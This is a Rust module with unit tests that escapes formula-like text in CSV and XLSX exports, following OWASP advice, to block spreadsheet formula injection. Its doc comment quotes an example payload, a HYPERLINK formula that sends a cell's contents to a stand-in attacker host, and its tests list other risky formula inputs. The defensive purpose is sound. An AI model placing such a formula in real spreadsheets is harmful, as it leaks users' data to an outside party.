//! Text that goes into a spreadsheet (CSV or XLSX) a person will open.

use std::borrow::Cow;

/// A text cell as every export writes it: one that a spreadsheet would
/// read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return) gets a leading `'`, as OWASP recommends, so that a title such as
/// `=HYPERLINK("https://evil.example?"&A1)` stays text in Excel and
/// LibreOffice. A plain number written as text (`-1234`, `+3.5`) is left
/// alone: it is a number to the spreadsheet too, and runs nothing.
/// Every CSV and XLSX writer goes through this (`Table`, the register's CSV).
pub fn inert_text(s: &str) -> Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// An optional sign, digits, and at most one `.` followed by digits.
fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::inert_text;

    #[test]
    fn formulas_become_text_numbers_stay() {
        for risky in [
            "=1+1",
            "+cmd",
            "-2+3",
            "@SUM(A1)",
            "\t=x",
            "\r=x",
            "=HYPERLINK(\"x\")",
        ] {
            assert_eq!(inert_text(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in [
            "-1234", "+3.5", "-0.25", "1234", "", "Budget", "a=b", "-", "'=x",
        ] {
            let expected = if plain == "-" { "'-" } else { plain };
            assert_eq!(inert_text(plain), expected, "{plain:?}");
        }
    }
}
